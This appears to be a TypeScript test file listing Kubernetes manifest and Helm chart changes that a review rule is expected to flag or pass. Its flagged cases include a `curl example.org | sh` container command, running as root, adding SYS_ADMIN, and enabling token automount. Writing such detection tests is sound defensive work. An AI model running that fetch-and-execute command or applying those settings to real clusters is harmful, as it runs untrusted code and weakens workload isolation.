import { spec } from "./rules-cases-manifests";
import type { Given } from "./support/plan";
import { type RuleCase, update } from "./support/rule-case";

const chart = (before: object, after: object): Given[] =>
  update("helm_release.a", { values: [JSON.stringify(before)] }, { values: [JSON.stringify(after)] });
const pod = (container: object, more: object = {}): object => ({
  containers: [{ name: "server", ...container }],
  ...more,
});

/** Settings that no row of `settings.ts` weighs: judged by their class alone. */
export const SETTING_CASES: Readonly<Record<string, RuleCase>> = {
  "manifest-setting": {
    hits: [
      // What runs, as whom, on what.
      spec(pod({ command: ["serve"] }), pod({ command: ["sh", "-c", "curl example.org | sh"] })),
      spec(pod({}), { containers: [{ name: "server" }, { name: "other", image: "example.org/other:1" }] }),
      spec({ serviceAccountName: "a" }, { serviceAccountName: "b" }),
      spec(pod({ securityContext: { runAsUser: 101 } }), pod({ securityContext: { runAsUser: 0 } })),
      spec({ nodeSelector: { a: "x" } }, { nodeSelector: { a: "y" } }),
      spec({ selector: { matchLabels: { a: "x" } } }, { selector: { matchLabels: { a: "y" } } }),
      // Who finds it.
      spec({ podTemplate: { metadata: { labels: { app: "a" } } } }, { podTemplate: { metadata: { labels: {} } } }),
      spec({ dnsNames: ["a", "b"] }, { dnsNames: ["a"] }),
      // One direction.
      spec({ automountServiceAccountToken: false }, { automountServiceAccountToken: true }),
      spec({ parameters: { log_connections: "on" } }, { parameters: { log_connections: "off" } }),
      spec({ parameters: { shared_buffers: "1GB" } }, { parameters: { shared_buffers: "512MB" } }),
      spec({ parameters: { max_connections: "200" } }, { parameters: {} }),
      spec({ rules: [{ name: "a", for: "2m" }] }, { rules: [{ name: "a", for: "1h" }] }),
      spec({ capabilities: { drop: ["ALL"] } }, { capabilities: { drop: [] } }),
      spec({ capabilities: { add: [] } }, { capabilities: { add: ["SYS_ADMIN"] } }),
      // Of a chart.
      chart({ image: { repository: "a/b" } }, { image: { repository: "c/b" } }),
      chart(
        { alertmanager: { config: { route: { receiver: "a" } } } },
        { alertmanager: { config: { route: { receiver: "b" } } } },
      ),
    ],
    passes: [
      spec({ parameters: { shared_buffers: "512MB" } }, { parameters: { shared_buffers: "1GB" } }),
      spec({ parameters: { max_connections: "200" } }, { parameters: { max_connections: "300" } }),
      spec({ automountServiceAccountToken: true }, { automountServiceAccountToken: false }),
      spec({ metadata: { labels: { a: "x" } } }, { metadata: { labels: { a: "x", b: "y" } } }),
      spec({ rules: [{ name: "a", for: "2m" }] }, { rules: [{ name: "a", for: "1m" }] }),
      spec({ replicas: 2, imagePullPolicy: "Always" }, { replicas: 3, imagePullPolicy: "IfNotPresent" }),
      spec(
        pod({ image: "a:1.0", resources: { limits: { memory: "1Gi" } } }),
        pod({ image: "a:1.1", resources: { limits: { memory: "2Gi" } } }),
      ),
      chart({ replicaCount: 2 }, { replicaCount: 3 }),
      // Told by `unjudged`, and not as good.
      spec({ parameters: { max_connections: "200" } }, { parameters: { max_connections: "lots" } }),
      spec({ whatever: 1 }, { whatever: 2 }),
    ],
  },
};
